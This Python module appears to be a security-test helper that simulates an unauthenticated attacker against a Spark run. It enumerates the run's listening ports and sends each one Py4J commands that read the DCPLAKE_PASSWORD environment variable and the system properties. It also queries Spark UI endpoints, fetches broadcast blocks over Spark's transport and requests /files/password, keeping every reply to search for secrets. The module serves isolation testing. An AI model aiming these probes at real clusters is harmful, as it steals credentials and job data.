"""Somebody on the network without a password: asks every port of a run for all that it gives.

Speaks what listens there: Spark's transport (its block manager serves what tasks are made of), the
bridge between Python and Java, and HTTP. Whatever comes back is kept, to be searched for secrets.
"""

import socket
import struct
import time
from collections.abc import Iterator, Sequence
from contextlib import suppress
from dataclasses import dataclass, field
from typing import Any, Final

import psutil

BROADCASTS: Final = 60
"""How many broadcasts of a session are asked for; a run has fewer when its first task works."""

_QUIET_SECONDS: Final = 0.5
"""Without an answer for so long, a port is taken to be silent; one that serves answers at once."""
_CONNECT_SECONDS: Final = 5.0
_RPC_REQUEST, _RPC_RESPONSE, _CHUNK_REQUEST, _CHUNK, _STREAM_REQUEST = 3, 4, 0, 1, 6
_OPEN_BLOCKS: Final = 0
_PATHS: Final = ("/", "/environment/", "/executors/", "/api/v1/applications", "/json/", "/metrics")
_ANYWHERE: Final = ("0.0.0.0", "::")  # noqa: S104  (what others listen at)
_WORDS: Final = (
    b"",
    b"c\nz:java.lang.System\ngetenv\nsDCPLAKE_PASSWORD\ne\n",  # the bridge's own language
    b"c\nz:java.lang.System\ngetProperties\ne\n",
    *(f"GET {path} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n".encode() for path in _PATHS),
)


@dataclass(frozen=True, slots=True)
class Listener:
    """An address that a process listens at."""

    pid: int
    address: str
    port: int

    @property
    def is_loopback(self) -> bool:
        """Whether only this machine can come here."""
        return self.reachable_at.startswith("127.") and self.address not in _ANYWHERE

    @property
    def reachable_at(self) -> str:
        """An IPv4 address at which it can be reached from here."""
        return "127.0.0.1" if self.address in _ANYWHERE else self.address.removeprefix("::ffff:")


@dataclass(slots=True)
class Loot:
    """What was told, and by which ports blocks were served."""

    received: list[bytes] = field(default_factory=list)
    blocks: int = 0


def processes_of(pid: int) -> list[psutil.Process]:
    """Return a process and all below it that live."""
    root = psutil.Process(pid)
    return [each for each in (root, *root.children(recursive=True)) if _lives(each)]


def _lives(process: psutil.Process) -> bool:
    try:
        return process.is_running() and process.status() != psutil.STATUS_ZOMBIE
    except psutil.NoSuchProcess:  # it has just ended
        return False


def _connections_of(process: psutil.Process, kind: str) -> list[Any]:
    try:
        return list(process.net_connections(kind))
    except psutil.NoSuchProcess:
        return []


def listeners_of(processes: Sequence[psutil.Process]) -> list[Listener]:
    """Return where these processes listen, TCP only."""
    return [
        Listener(each.pid, connection.laddr.ip, connection.laddr.port)
        for each in processes
        for connection in _connections_of(each, "tcp")
        if connection.status == psutil.CONN_LISTEN
    ]


def unix_sockets_of(processes: Sequence[psutil.Process]) -> set[str]:
    """Return the names of their sockets in the file system."""
    return {
        name
        for each in processes
        for connection in _connections_of(each, "unix")
        if (name := str(connection.laddr))
    }


def addresses_of_machine() -> list[str]:
    """Return the IPv4 addresses of this machine that are not loopback."""
    found = (each for many in psutil.net_if_addrs().values() for each in many)
    return [
        each.address
        for each in found
        if each.family == socket.AF_INET and not each.address.startswith("127.")
    ]


def is_open(address: str, port: int) -> bool:
    """Whether somebody answers there."""
    with suppress(OSError), socket.create_connection((address, port), _CONNECT_SECONDS):
        return True
    return False


def plunder(address: str, port: int) -> Loot:
    """Ask a port for everything."""
    loot = Loot()
    for words in _WORDS:
        with suppress(OSError), _connected(address, port) as connection:
            connection.sendall(words)
            loot.received.append(_all(connection))
    _take_files(address, port, loot)
    _take_blocks(address, port, loot)
    return loot


def _take_blocks(address: str, port: int, loot: Loot) -> None:
    """Fetch broadcasts from a block manager, as an executor does; stop where it is none."""
    for number in range(BROADCASTS):
        with suppress(OSError), _connected(address, port) as connection:
            names = [b"app", b"driver"]
            body = bytes([_OPEN_BLOCKS]) + b"".join(map(_text, names))
            body += struct.pack(">i", 1) + _text(b"broadcast_%d_piece0" % number)
            request = struct.pack(">bqi", _RPC_REQUEST, number, len(body)) + body
            answer = _asked(connection, request)
            loot.received.append(answer)
            if answer[:1] != bytes([_RPC_RESPONSE]):
                return  # whoever refuses to open one opens none
            (stream,) = struct.unpack_from(">q", answer, 1 + 8 + 4 + 1)
            chunk = _asked(connection, struct.pack(">bqi", _CHUNK_REQUEST, stream, 0))
            loot.received.append(chunk)
            loot.blocks += chunk[:1] == bytes([_CHUNK])


def _take_files(address: str, port: int, loot: Loot) -> None:
    """Ask the server of files, jars and classes that drivers have."""
    for name in (b"/files/password", b"/jars/x", b"/classes/x", b"/artifacts/x"):
        with suppress(OSError), _connected(address, port) as connection:
            loot.received.append(_asked(connection, bytes([_STREAM_REQUEST]) + _text(name)))


def _text(value: bytes) -> bytes:
    return struct.pack(">i", len(value)) + value


def _connected(address: str, port: int) -> socket.socket:
    connection = socket.create_connection((address, port), _CONNECT_SECONDS)
    connection.settimeout(_QUIET_SECONDS)
    return connection


def _asked(connection: socket.socket, message: bytes) -> bytes:
    """Send a message of Spark's transport; return the answer, without its length if it is whole."""
    connection.sendall(struct.pack(">q", len(message) + 8) + message)
    found = b""
    for part in _parts(connection):
        found += part
        if len(found) >= 8 and len(found) >= struct.unpack_from(">q", found)[0]:
            break
    return found[8:]


def _all(connection: socket.socket) -> bytes:
    return b"".join(_parts(connection))


def _parts(connection: socket.socket) -> Iterator[bytes]:
    """Yield what comes until the end, or until nothing comes any more."""
    end = time.monotonic() + 60
    with suppress(TimeoutError, ConnectionError):
        while time.monotonic() < end and (part := connection.recv(1 << 16)):
            yield part
